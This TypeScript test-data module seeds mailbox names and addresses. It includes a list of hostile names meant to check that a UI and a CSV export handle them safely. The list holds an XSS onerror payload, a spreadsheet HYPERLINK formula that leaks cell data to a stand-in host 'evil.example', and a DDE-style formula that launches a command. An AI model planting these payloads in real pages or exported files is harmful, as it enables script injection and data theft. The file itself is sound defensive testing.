/** Names for seeded mailboxes, including the hostile strings the UI and CSV export must survive. */
import type { Rng } from './prng';

/** Markup, quotes, spreadsheet formula prefixes, RTL scripts, emoji and an over-long name (≤ 200, the column max). */
export const HOSTILE_NAMES: readonly string[] = [
    '<img src=x onerror=alert(1)>',
    `O'Brien "Bob"`,
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    '+1 Sales Hotline',
    '-2 Returns Desk',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'مكتب المبيعات الإقليمي',
    'שירות לקוחות ישראל',
    '🚀 Launch Team 👩🏽‍💻✨',
    `Dr. Maximiliana Alexandrina ${'Konstantinopoulou-Featherstonehaugh '.repeat(5)}`.slice(0, 200).trim(),
];

/** Local parts for the hostile names (an apostrophe stays: it is legal in an address and breaks naive OData quoting). */
const HOSTILE_LOCAL_PARTS: readonly string[] = [
    'img.onerror',
    "o'brien.bob",
    'hyperlink',
    'plus.one',
    'minus.two',
    'at.sum',
    'arabic.office',
    'hebrew.service',
    'rocket.team',
    'very.long.name',
];

const FIRST = [
    'Alex',
    'María',
    'Jürgen',
    'Zoë',
    'Nguyễn Văn',
    'Aiko',
    'Olusegun',
    'Siobhán',
    'Åsa',
    'Priya',
    'Chen',
    'Fatima',
    'Lars',
    'Dmitri',
    'Grace',
    'Mateo',
    'Yuki',
    'Noa',
    'Kwame',
    'Isabella',
];
const LAST = [
    'Smith',
    'García',
    'Müller',
    'Dubois',
    'Tanaka',
    'Okafor',
    'Kowalski',
    'Rossi',
    'Andersson',
    'Patel',
    'Wang',
    'Haddad',
    'Nielsen',
    'Ivanov',
    'Kim',
    'Silva',
    'Sato',
    'Cohen',
    'Mensah',
    'Bianchi',
];
const QUEUES = ['Support', 'Sales', 'Billing', 'Returns', 'Partners', 'Careers', 'Info', 'Escalations'];
const REGIONS = ['EMEA', 'AMER', 'APAC', 'DACH', 'LATAM'];

const asciiCache = new Map<string, string>();
const ascii = (value: string): string => {
    let out = asciiCache.get(value);
    if (out === undefined) {
        out = value
            .normalize('NFD')
            .replace(/[\u0300-\u036f]/g, '')
            .toLowerCase()
            .replace(/[^a-z0-9]/g, '');
        asciiCache.set(value, out);
    }
    return out;
};

/** Which hostile name (if any) the default profile's mailbox at `index` carries: all ten within the first 40. */
export function hostileIndexAt(index: number): number | undefined {
    if (index % 4 === 2 && (index - 2) / 4 < HOSTILE_NAMES.length) return (index - 2) / 4;
    return index % 97 === 50 ? index % HOSTILE_NAMES.length : undefined;
}

/** Name and address of one mailbox; `seq` keeps addresses unique within a domain. */
export function makeName(
    rng: Rng,
    isQueue: boolean,
    seq: number,
    domain: string,
    hostile?: number,
): { name: string; email: string } {
    if (hostile !== undefined)
        return { name: HOSTILE_NAMES[hostile], email: `${HOSTILE_LOCAL_PARTS[hostile]}.${seq}@${domain}` };
    if (isQueue) {
        const queue = rng.pick(QUEUES);
        const region = rng.pick(REGIONS);
        return {
            name: `${queue} ${region} ${seq}`,
            email: `${queue.toLowerCase()}.${region.toLowerCase()}.${seq}@${domain}`,
        };
    }
    const first = rng.pick(FIRST);
    const last = rng.pick(LAST);
    return { name: `${first} ${last}`, email: `${ascii(first)}.${ascii(last)}.${seq}@${domain}` };
}
